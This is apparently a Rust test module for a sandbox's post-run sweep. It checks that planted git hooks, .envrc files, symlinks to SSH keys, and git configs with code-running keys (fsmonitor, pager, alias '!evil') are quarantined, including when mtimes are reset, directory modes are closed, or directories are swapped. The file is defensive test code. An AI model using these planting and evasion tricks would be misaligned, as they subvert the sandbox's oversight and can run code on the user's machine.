        symlink("shared/envrc", ws.join(".envrc")).unwrap();
        let plan = plan_for(&ws);
        assert_eq!(
            plan.watch.sweep.links[&ws.join(".envrc")].resolves,
            Some(ws.join("a/envrc"))
        );
        std::fs::remove_file(ws.join("shared")).unwrap();
        symlink("b", ws.join("shared")).unwrap();
        let v = after_run(&plan, &RealHost, "via", held, started, &[]);
        assert!(
            std::fs::symlink_metadata(ws.join(".envrc")).is_err(),
            "{v:?}"
        );
        assert!(
            v.iter().any(|v| v.kind == PROTECTED_PATH_REPLACED
                && v.path == ws.join(".envrc")
                && v.action.contains("not made again")),
            "{v:?}"
        );
    }

    /// Asks the real host, counting directory listings.
    struct Counting(std::cell::Cell<usize>);

    impl HostView for Counting {
        fn stat(&self, p: &Path) -> Option<crate::host::Entry> {
            RealHost.stat(p)
        }
        fn lstat_kind(&self, p: &Path) -> Option<Kind> {
            RealHost.lstat_kind(p)
        }
        fn canonicalize(&self, p: &Path) -> Option<PathBuf> {
            RealHost.canonicalize(p)
        }
        fn list_dir(&self, p: &Path) -> Vec<(std::ffi::OsString, Kind)> {
            self.0.set(self.0.get() + 1);
            RealHost.list_dir(p)
        }
        fn read_small(&self, p: &Path) -> Option<String> {
            RealHost.read_small(p)
        }
        fn dir_stamp(&self, p: &Path) -> Option<crate::host::DirStamp> {
            RealHost.dir_stamp(p)
        }
        fn local_ctime(&self, p: &Path) -> bool {
            RealHost.local_ctime(p)
        }
    }

    /// A tree planned at once has not settled (its ctimes are newer than the walk minus
    /// `SETTLED`): nothing is recorded, so the sweep lists everything.
    #[test]
    fn fresh_directories_are_not_trusted() {
        let tmp = tempfile::tempdir().unwrap();
        let ws = std::fs::canonicalize(tmp.path()).unwrap().join("ws");
        std::fs::create_dir_all(ws.join("a/b")).unwrap();
        let plan = plan_for(&ws);
        assert!(
            plan.watch.sweep.dirs.dirs.is_empty(),
            "{:?}",
            plan.watch.sweep.dirs
        );
    }

    /// The stamps of every directory below `ws`, recorded as if the tree had settled (no
    /// settling window).
    fn settled_stamps(ws: &Path) -> crate::DirStamps {
        let mut stamps = crate::DirStamps::start_settled(std::time::Duration::ZERO);
        let mut n = 0;
        walk(
            &RealHost,
            ws,
            &mut n,
            Stamps::Record(&mut stamps),
            &|_, _| true,
            &mut |_, _| {},
            &mut |_, _| {},
        )
        .unwrap();
        stamps
    }

    /// The sweep lists only directories whose ctime moved. The sandbox's trick of putting a
    /// directory's mtime back after planting a hook in it does not hide the hook: ctime moves
    /// with every change, `utimensat` included.
    #[test]
    fn sweep_lists_only_changed_directories_and_sees_through_a_reset_mtime() {
        let tmp = tempfile::tempdir().unwrap();
        let ws = std::fs::canonicalize(tmp.path()).unwrap().join("ws");
        for d in ["a/b/c", "a/x", "d/e"] {
            std::fs::create_dir_all(ws.join(d)).unwrap();
            std::fs::write(ws.join(d).join("f"), "x").unwrap();
        }
        let mut plan = plan_for(&ws);
        // As if the tree had settled: record with no settling window.
        std::thread::sleep(std::time::Duration::from_millis(20));
        let stamps = settled_stamps(&ws);
        assert_eq!(stamps.dirs.len(), 7, "{:?}", stamps.dirs.keys());
        plan.watch.sweep.dirs = stamps;
        std::thread::sleep(std::time::Duration::from_millis(20));

        let host = Counting(std::cell::Cell::new(0));
        assert!(sweep(&plan, &host, "quiet").is_empty());
        assert_eq!(host.0.get(), 0, "nothing changed, nothing listed");

        // What the sandbox did during the run: a hook deep in the tree, then the directory's
        // mtime put back.
        let c = ws.join("a/b/c");
        let mtime = std::fs::metadata(&c).unwrap().modified().unwrap();
        std::fs::create_dir_all(c.join(".git/hooks")).unwrap();
        std::fs::write(c.join(".git/hooks/pre-commit"), "evil").unwrap();
        std::fs::File::open(&c)
            .unwrap()
            .set_modified(mtime)
            .unwrap();
        assert_eq!(std::fs::metadata(&c).unwrap().modified().unwrap(), mtime);
        let host = Counting(std::cell::Cell::new(0));
        let violations = sweep(&plan, &host, "hook");
        assert!(
            violations
                .iter()
                .any(|v| v.path == c.join(".git/hooks/pre-commit")),
            "{violations:?}"
        );
        assert!(!c.join(".git/hooks/pre-commit").exists());
        // `c` and what is new below it; the rest of the tree passed unlisted.
        assert_eq!(
            host.0.get(),
            4,
            "c, c/.git and c/.git/hooks by the walk, the hooks by the quarantine"
        );
    }

    #[test]
    fn new_git_config_symlink_is_moved_not_followed() {
        let tmp = tempfile::tempdir().unwrap();
        let ws = std::fs::canonicalize(tmp.path()).unwrap().join("ws");
        std::fs::create_dir_all(ws.join("sub")).unwrap();
        let target = ws.parent().unwrap().join("victim");
        std::fs::write(&target, "precious").unwrap();
        let plan = plan_for(&ws);
        std::fs::create_dir_all(ws.join("sub/.git")).unwrap();
        std::os::unix::fs::symlink(&target, ws.join("sub/.git/config")).unwrap();
        let _ = sweep(&plan, &RealHost, "run2");
        assert_eq!(std::fs::read_to_string(&target).unwrap(), "precious");
        assert!(std::fs::symlink_metadata(ws.join("sub/.git/config")).is_err());
    }

    /// Another run in the same workspace (alive while this one sweeps) swaps a directory on
    /// the way for a link to another repository after the walk: the move must not follow it
    /// (it would take the other repository's hook into this workspace's quarantine).
    #[test]
    fn quarantine_does_not_follow_a_directory_swapped_after_the_walk() {
        let tmp = tempfile::tempdir().unwrap();
        let base = std::fs::canonicalize(tmp.path()).unwrap();
        let (ws, repo) = (base.join("ws"), base.join("outside/repo"));
        std::fs::create_dir_all(ws.join("a/.git/hooks")).unwrap();
        std::fs::write(ws.join("a/.git/hooks/pre-commit"), "evil").unwrap();
        std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
        std::fs::write(repo.join(".git/hooks/pre-commit"), "theirs").unwrap();
        std::fs::rename(ws.join("a"), ws.join("a-moved")).unwrap();
        std::os::unix::fs::symlink(&repo, ws.join("a")).unwrap();
        let v = quarantine(&ws, &ws.join("a/.git/hooks/pre-commit"), "r", "k");
        assert!(v.action.contains("could not be moved"), "{v:?}");
        assert_eq!(
            std::fs::read_to_string(repo.join(".git/hooks/pre-commit")).unwrap(),
            "theirs"
        );
    }

    /// The real host, except that the first look at a `.git/config` swaps `sub` for a link
    /// to another repository (what a concurrent run could do between the walk and the act).
    struct Swapping {
        ws: PathBuf,
        repo: PathBuf,
        done: std::cell::Cell<bool>,
    }

    impl HostView for Swapping {
        fn stat(&self, p: &Path) -> Option<crate::host::Entry> {
            RealHost.stat(p)
        }
        fn lstat_kind(&self, p: &Path) -> Option<Kind> {
            let kind = RealHost.lstat_kind(p);
            if p.ends_with("sub/.git/config") && !self.done.replace(true) {
                std::fs::rename(self.ws.join("sub"), self.ws.join("sub-real")).unwrap();
                std::os::unix::fs::symlink(&self.repo, self.ws.join("sub")).unwrap();
            }
            kind
        }
        fn canonicalize(&self, p: &Path) -> Option<PathBuf> {
            RealHost.canonicalize(p)
        }
        fn list_dir(&self, p: &Path) -> Vec<(std::ffi::OsString, Kind)> {
            RealHost.list_dir(p)
        }
        fn read_small(&self, p: &Path) -> Option<String> {
            RealHost.read_small(p)
        }
    }

    #[test]
    fn git_config_rewrite_does_not_follow_a_directory_swapped_after_the_walk() {
        let tmp = tempfile::tempdir().unwrap();
        let base = std::fs::canonicalize(tmp.path()).unwrap();
        let (ws, repo) = (base.join("ws"), base.join("outside/repo"));
        std::fs::create_dir_all(ws.join("sub")).unwrap();
        let victim = "[core]\n\tfsmonitor = their-own-tool\n";
        std::fs::create_dir_all(repo.join(".git")).unwrap();
        std::fs::write(repo.join(".git/config"), victim).unwrap();
        let plan = plan_for(&ws);
        std::fs::create_dir_all(ws.join("sub/.git")).unwrap();
        std::fs::write(ws.join("sub/.git/config"), "[core]\n\tpager = evil\n").unwrap();
        let host = Swapping {
            ws: ws.clone(),
            repo: repo.clone(),
            done: std::cell::Cell::new(false),
        };
        let violations = sweep(&plan, &host, "swap");
        assert!(host.done.get(), "the swap happened");
        assert_eq!(
            std::fs::read_to_string(repo.join(".git/config")).unwrap(),
            victim,
            "{violations:?}"
        );
    }

    fn make_git_dir(dir: &Path) {
        std::fs::create_dir_all(dir.join("objects")).unwrap();
        std::fs::create_dir_all(dir.join("refs/heads")).unwrap();
        std::fs::write(dir.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    }

    /// A bare repository assembled during the run, hooks and a live config first: both taken
    /// out; a sample hook and an unrelated directory with a `config` stay.
    #[test]
    fn planted_bare_repository_loses_its_config_and_hooks() {
        let tmp = tempfile::tempdir().unwrap();
        let ws = std::fs::canonicalize(tmp.path()).unwrap().join("ws");
        std::fs::create_dir_all(&ws).unwrap();
        let plan = plan_for(&ws);
        let b = ws.join("deep/b");
        std::fs::create_dir_all(b.join("hooks")).unwrap();
        std::fs::write(b.join("config"), "[core]\n\tfsmonitor = evil\n").unwrap();
        std::fs::write(b.join("hooks/post-checkout"), "evil").unwrap();
        std::fs::write(b.join("hooks/pre-commit.sample"), "fine").unwrap();
        std::fs::write(b.join("commondir"), "../x\n").unwrap();
        make_git_dir(&b);
        std::fs::create_dir_all(ws.join("app")).unwrap();
        std::fs::write(ws.join("app/config"), "[core]\n\tfsmonitor = not-git\n").unwrap();
        let violations = sweep(&plan, &RealHost, "plant");
        let kinds: Vec<_> = violations
            .iter()
            .map(|v| (v.kind, v.path.clone()))
            .collect();
        for p in ["config", "hooks/post-checkout", "commondir"] {
            assert!(
                kinds.contains(&(planted_git::PLANTED_GIT_DIR, b.join(p))),
                "{p}: {violations:?}"
            );
        }
        assert_eq!(violations.len(), 3, "{violations:?}");
        assert!(!b.join("hooks/post-checkout").exists());
        assert!(b.join("hooks/pre-commit.sample").exists());
        assert!(!b.join("commondir").exists());
        let config = std::fs::read_to_string(b.join("config")).unwrap();
        assert!(git_config_is_inert(config.as_bytes(), &[]), "{config}");
        assert!(ws.join("app/config").exists(), "not a git dir: left alone");
    }

    /// A bare repository that was one at the start keeps its config and hooks.
    #[test]
    fn existing_bare_repository_is_left_alone() {
        let tmp = tempfile::tempdir().unwrap();
        let ws = std::fs::canonicalize(tmp.path()).unwrap().join("ws");
        let b = ws.join("mirror.git");
        std::fs::create_dir_all(b.join("hooks")).unwrap();
        std::fs::write(
            b.join("config"),
            "[core]\n\tbare = true\n[alias]\n\tx = !y\n",
        )
        .unwrap();
        std::fs::write(b.join("hooks/pre-receive"), "theirs").unwrap();
        make_git_dir(&b);
        let plan = plan_for(&ws);
        assert!(
            plan.watch.sweep.git_dirs.contains(&b),
            "{:?}",
            plan.watch.sweep.git_dirs
        );
        // The run touches the directory (so the sweep lists it again).
        std::fs::write(b.join("FETCH_HEAD"), "").unwrap();
        let violations = sweep(&plan, &RealHost, "keep");
        assert!(violations.is_empty(), "{violations:?}");
        assert!(b.join("hooks/pre-receive").exists());
    }

    #[test]
    fn git_init_config_is_inert() {
        let text = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n[remote \"origin\"]\n\turl = https://example.com/x.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n";
        assert!(git_config_is_inert(text.as_bytes(), &[]));
    }

    #[test]
    fn code_running_keys_are_not_inert() {
        for text in [
            "[core]\n\tfsmonitor = /tmp/evil\n",
            "[core]\n\thooksPath = /tmp\n",
            "[core]\n\tpager = sh -c evil\n",
            "[include]\n\tpath = ../x\n",
            "[filter \"lfs\"]\n\tclean = evil\n",
            "[alias]\n\tst = !evil\n",
            "[diff \"x\"]\n\ttextconv = evil\n",
            "[core \"x\"]\n\tbare = false\n",
        ] {
            assert!(!git_config_is_inert(text.as_bytes(), &[]), "{text}");
        }
    }

    /// Runs `f` in a thread of its own that is uid and gid [`UNPRIV`] (a root test process
    /// loses every capability there, as an unprivileged caller has none): files it makes are
    /// owned by that uid, and a directory at mode 000 is closed to it. Unprivileged, `f` runs
    /// as it is.
    fn as_unprivileged<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
        std::thread::spawn(move || {
            if rustix::process::geteuid().is_root() {
                // Raw system calls: this thread's credentials only.
                let (uid, gid) = (
                    rustix::process::Uid::from_raw(UNPRIV),
                    rustix::process::Gid::from_raw(UNPRIV),
                );
                rustix::thread::set_thread_groups(&[]).unwrap();
                rustix::thread::set_thread_res_gid(gid, gid, gid).unwrap();
                rustix::thread::set_thread_res_uid(uid, uid, uid).unwrap();
            }
            f()
        })
        .join()
        .unwrap()
    }

    const UNPRIV: u32 = 65534;

    /// A workspace (with a `home/.ssh/id_rsa` in the plan's masks) the unprivileged thread
    /// owns.
    fn unprivileged_ws(tmp: &tempfile::TempDir) -> PathBuf {
        let base = std::fs::canonicalize(tmp.path()).unwrap();
        std::fs::set_permissions(&base, std::fs::Permissions::from_mode(0o755)).unwrap();
        let ws = base.join("ws");
        std::fs::create_dir_all(ws.join("home/.ssh")).unwrap();
        std::fs::write(ws.join("home/.ssh/id_rsa"), "key").unwrap();
        if rustix::process::geteuid().is_root() {
            for p in [&ws, &ws.join("home")] {
                std::os::unix::fs::chown(p, Some(UNPRIV), Some(UNPRIV)).unwrap();
            }
        }
        ws
    }

    fn mode_of(p: &Path) -> u32 {
        std::fs::symlink_metadata(p).unwrap().permissions().mode() & 0o7777
    }

    /// The attack: a directory made during the run holds a link into a masked path, a nested
    /// repository's hook and an `.envrc`, and is then left at a mode that shuts the caller out
    /// (or lets it list but not search, or not write). Every one is found and quarantined, the
    /// directory gets back exactly the mode the run left, and nothing is reported as
    /// uninspectable. Control: the same tree at 0755 is found the same way (`0o755` below).
    #[test]
    fn no_mode_of_a_directory_hides_what_it_holds() {
        for mode in [
            0o755, 0o000, 0o111, 0o311, 0o300, 0o444, 0o555, 0o600, 0o1000,
        ] {
            let tmp = tempfile::tempdir().unwrap();
            let ws = unprivileged_ws(&tmp);
            let violations = as_unprivileged(move || {
                let ws = ws;
                let plan = plan_for(&ws);
                // Past the coarse clock that stamps ctimes (a link older than the plan is
                // the user's own).
                std::thread::sleep(std::time::Duration::from_millis(20));
                let d = ws.join("d");
                std::fs::create_dir_all(d.join("repo/.git/hooks")).unwrap();
                std::fs::write(d.join("repo/.git/hooks/pre-commit"), "evil").unwrap();
                std::fs::write(d.join(".envrc"), "evil").unwrap();
                std::os::unix::fs::symlink(ws.join("home/.ssh/id_rsa"), d.join("link")).unwrap();
                std::fs::set_permissions(&d, std::fs::Permissions::from_mode(mode)).unwrap();
                let v = sweep(&plan, &RealHost, "modes");
                // As the run left it.
                assert_eq!(mode_of(&d), mode, "{mode:o}");
                std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o755)).unwrap();
                for gone in ["link", ".envrc", "repo/.git/hooks/pre-commit"] {
                    assert!(
                        std::fs::symlink_metadata(d.join(gone)).is_err(),
                        "{mode:o}: {gone} stayed: {v:?}"
                    );
                    assert!(
                        std::fs::symlink_metadata(
                            ws.join(".stockade/quarantine/modes/d").join(gone)
                        )
                        .is_ok(),
                        "{mode:o}: {gone} not quarantined: {v:?}"
                    );
                }
                v.into_iter()
                    .map(|v| (v.kind, v.path.strip_prefix(&d).unwrap().to_path_buf()))
                    .collect::<Vec<_>>()
            });
            for (kind, rel) in [
                ("symlink_to_masked_path", "link"),
                ("protected_path_created", ".envrc"),
                ("protected_path_created", "repo/.git/hooks/pre-commit"),
            ] {
                assert!(
                    violations.contains(&(kind, PathBuf::from(rel))),
                    "{mode:o}: no {kind} for {rel}: {violations:?}"
                );
            }
            assert!(
                !violations
                    .iter()
                    .any(|(k, _)| *k == UNINSPECTABLE_DIRECTORY),
                "{mode:o}: {violations:?}"
            );
        }
    }

    /// A directory the sweep cannot open up (another user's, listable by nobody but
    /// writable and searchable by all) made during the run is quarantined whole and reported;
    /// one that was there before the run, unchanged and closed to the caller, is left alone.
    /// The old walk passed both over without a word.
    #[test]
    fn a_directory_the_sweep_cannot_open_up_is_quarantined_whole() {
        if !rustix::process::geteuid().is_root() {
            eprintln!("skipped: needs root to make a directory of another user");
            return;
        }
        let tmp = tempfile::tempdir().unwrap();
        let ws = unprivileged_ws(&tmp);
        let old = ws.join("old");
        std::fs::create_dir(&old).unwrap();
        std::fs::set_permissions(&old, std::fs::Permissions::from_mode(0o700)).unwrap();
        std::thread::sleep(std::time::Duration::from_millis(30));
        let mut plan = as_unprivileged({
            let ws = ws.clone();
            move || plan_for(&ws)
        });
        // `old` is older than the plan by more than this settling window (3 s in a run).
        plan.watch.sweep.dirs =
            crate::DirStamps::start_settled(std::time::Duration::from_millis(10));
        std::thread::sleep(std::time::Duration::from_millis(30));
        // During the run: another user's directory, writable and searchable by the caller.
        let d = ws.join("d");
        std::fs::create_dir(&d).unwrap();
        std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o003)).unwrap();
        let violations = as_unprivileged({
            let ws = ws.clone();
            move || {
                std::fs::write(ws.join("d/.envrc"), "evil").unwrap();
                sweep(&plan, &RealHost, "closed")
            }
        });
        assert!(
            violations
                .iter()
                .any(|v| v.kind == UNINSPECTABLE_DIRECTORY && v.path == d),
            "{violations:?}"
        );
        assert_eq!(violations.len(), 1, "{violations:?}");
        assert!(std::fs::symlink_metadata(&d).is_err(), "{violations:?}");
        assert!(ws.join(".stockade/quarantine/closed/d/.envrc").exists());
        assert!(old.is_dir(), "left alone");
    }

    /// The walk's stamps cannot be fooled by modes: the run plants a hook below a directory
    /// the planner recorded, then shuts the caller out of the new directory and of the
    /// recorded one above it (a `chmod` moves the ctime too, so both are listed again).
    #[test]
    fn recorded_directories_closed_by_the_run_are_listed_again() {
        let tmp = tempfile::tempdir().unwrap();
        let ws = unprivileged_ws(&tmp);
        let found = as_unprivileged(move || {
            let ws = ws;
            std::fs::create_dir_all(ws.join("a/b")).unwrap();
            let mut plan = plan_for(&ws);
            std::thread::sleep(std::time::Duration::from_millis(20));
            let stamps = settled_stamps(&ws);
            assert!(
                stamps.dirs.contains_key(ws.join("a").as_os_str()),
                "{stamps:?}"
            );
            plan.watch.sweep.dirs = stamps;
            std::thread::sleep(std::time::Duration::from_millis(20));
            let n = ws.join("a/b/n");
            std::fs::create_dir_all(n.join(".git/hooks")).unwrap();
            std::fs::write(n.join(".git/hooks/post-checkout"), "evil").unwrap();
            for (p, m) in [
                (&n, 0o000),
                (&ws.join("a/b"), 0o100),
                (&ws.join("a"), 0o000),
            ] {
                std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).unwrap();
            }
            let v = sweep(&plan, &RealHost, "stamps");
            assert_eq!(mode_of(&ws.join("a")), 0o000);
            for p in [&ws.join("a"), &ws.join("a/b"), &n] {
                std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
            }
            assert!(!n.join(".git/hooks/post-checkout").exists(), "{v:?}");
            v.iter()
                .map(|v| (v.kind, v.path.strip_prefix(&ws).unwrap().to_path_buf()))
                .collect::<Vec<_>>()
        });
        assert_eq!(
            found,
            [(
                "protected_path_created",
                PathBuf::from("a/b/n/.git/hooks/post-checkout")
            )]
        );
    }

    /// A link whose way leads through a directory the run closed (`l -> c/x`, `c` at mode
    /// 000, `c/x -> home/.ssh/id_rsa`): judged once the walk has opened `c`, so both links
    /// are found (the old sweep resolved `l` before it reached `c`).
    #[test]
    fn a_link_through_a_closed_directory_is_judged_with_the_way_open() {
        let tmp = tempfile::tempdir().unwrap();
        let ws = unprivileged_ws(&tmp);
        let found = as_unprivileged(move || {
            let ws = ws;
            let plan = plan_for(&ws);
            std::thread::sleep(std::time::Duration::from_millis(20));
            std::fs::create_dir(ws.join("c")).unwrap();
            std::os::unix::fs::symlink(ws.join("home/.ssh/id_rsa"), ws.join("c/x")).unwrap();
            std::os::unix::fs::symlink("c/x", ws.join("l")).unwrap();
            std::fs::set_permissions(ws.join("c"), std::fs::Permissions::from_mode(0o000)).unwrap();
            let v = sweep(&plan, &RealHost, "chain");
            assert_eq!(mode_of(&ws.join("c")), 0);
            let mut found: Vec<_> = v
                .iter()
                .map(|v| (v.kind, v.path.strip_prefix(&ws).unwrap().to_path_buf()))
                .collect();
            found.sort();
            found
        });
        assert_eq!(
            found,
            [
                ("symlink_to_masked_path", PathBuf::from("c/x")),
                ("symlink_to_masked_path", PathBuf::from("l")),
            ]
        );
    }

    /// Many closed directories, nested and side by side (more than the sweep holds open by
    /// descriptor): every link found, every mode given back, the deepest too.
    #[test]
    fn many_closed_directories_are_all_opened_and_given_their_modes_back() {
        let tmp = tempfile::tempdir().unwrap();
        let ws = unprivileged_ws(&tmp);
        as_unprivileged(move || {
            let ws = ws;
            let plan = plan_for(&ws);
            std::thread::sleep(std::time::Duration::from_millis(20));
            let mut dirs = Vec::new();
            for i in 0..90 {
                let d = ws.join(format!("m/{i}/n"));
                std::fs::create_dir_all(&d).unwrap();
                std::os::unix::fs::symlink(ws.join("home/.ssh/id_rsa"), d.join("k")).unwrap();
                dirs.push(d.clone());
                dirs.push(d.parent().unwrap().to_path_buf());
            }
            for d in &dirs {
                std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o100)).unwrap();
            }
            let v = sweep(&plan, &RealHost, "many");
            let links = v
                .iter()
                .filter(|v| v.kind == "symlink_to_masked_path")
                .count();
            assert_eq!(links, 90, "{v:?}");
            for d in dirs.iter().rev() {
                assert_eq!(mode_of(d), 0o100, "{}", d.display());
                std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o755)).unwrap();
            }
            assert!(std::fs::symlink_metadata(ws.join("m/89/n/k")).is_err());
        });
    }

    /// A new repository's config the run made unreadable (mode 000, in a directory at 000):
    /// the sweep cannot read it, so it is not taken for inert: quarantined and replaced.
    /// Control: the same config readable is quarantined the same way (it runs code).
    #[test]
    fn an_unreadable_git_config_is_not_inert() {
        for mode in [0o000, 0o644] {
            let tmp = tempfile::tempdir().unwrap();
            let ws = unprivileged_ws(&tmp);
            let v = as_unprivileged(move || {
                let ws = ws;
                let plan = plan_for(&ws);
                let git = ws.join("sub/.git");
                std::fs::create_dir_all(&git).unwrap();
                std::fs::write(git.join("config"), "[core]\n\tfsmonitor = evil\n").unwrap();
                std::fs::set_permissions(git.join("config"), std::fs::Permissions::from_mode(mode))
                    .unwrap();
                std::fs::set_permissions(&git, std::fs::Permissions::from_mode(mode & 0o700))
                    .unwrap();
                let v = sweep(&plan, &RealHost, "cfg");
                std::fs::set_permissions(&git, std::fs::Permissions::from_mode(0o755)).unwrap();
                let config = std::fs::read_to_string(git.join("config")).unwrap();
                assert!(!config.contains("evil"), "{mode:o}: {config}");
                v.into_iter()
                    .map(|v| (v.kind, v.path.strip_prefix(&ws).unwrap().to_path_buf()))
                    .collect::<Vec<_>>()
            });
            assert!(
                v.contains(&("protected_path_created", PathBuf::from("sub/.git/config"))),
                "{mode:o}: {v:?}"
            );
        }
    }

    /// The user's own directory at mode 000 from before the run, holding a repository with a
    /// hook, untouched by the run: left exactly as it is (no violation, nothing moved, not
    /// even its ctime moved by a `chmod`). The same directory made and closed during the run
    /// is looked into (the control).
    #[test]
    fn a_directory_closed_before_the_run_is_left_alone() {
        use std::os::unix::fs::MetadataExt;
        for (during, closed) in [(false, 0o000), (false, 0o600), (true, 0o000), (true, 0o600)] {
            let tmp = tempfile::tempdir().unwrap();
            let ws = unprivileged_ws(&tmp);
            let (v, private) = as_unprivileged(move || {
                let ws = ws;
                let private = ws.join("private");
                let make = || {
                    std::fs::create_dir_all(private.join("repo/.git/hooks")).unwrap();
                    std::fs::write(private.join("repo/.git/hooks/pre-commit"), "mine").unwrap();
                    std::fs::set_permissions(&private, std::fs::Permissions::from_mode(closed))
                        .unwrap()
                };
                if !during {
                    make();
                    std::thread::sleep(std::time::Duration::from_millis(30));
                }
                let mut plan = plan_for(&ws);
                // Older than the plan by more than this settling window (3 s in a run).
                plan.watch.sweep.dirs =
                    crate::DirStamps::start_settled(std::time::Duration::from_millis(10));
                std::thread::sleep(std::time::Duration::from_millis(30));
                if during {
                    make();
                }
                let ctime = std::fs::symlink_metadata(&private).unwrap().ctime_nsec();
                let v = sweep(&plan, &RealHost, "private");
                let after = std::fs::symlink_metadata(&private).unwrap();
                assert_eq!(after.permissions().mode() & 0o7777, closed);
                if !during {
                    assert_eq!(after.ctime_nsec(), ctime, "not chmod-ed");
                }
                std::fs::set_permissions(&private, std::fs::Permissions::from_mode(0o755)).unwrap();
                (v, private)
            });
            let hook = private.join("repo/.git/hooks/pre-commit");
            if during {
                assert!(v.iter().any(|v| v.path == hook), "{closed:o}: {v:?}");
            } else {
                assert!(v.is_empty(), "{closed:o}: {v:?}");
                assert!(hook.exists());
            }
        }
    }
}
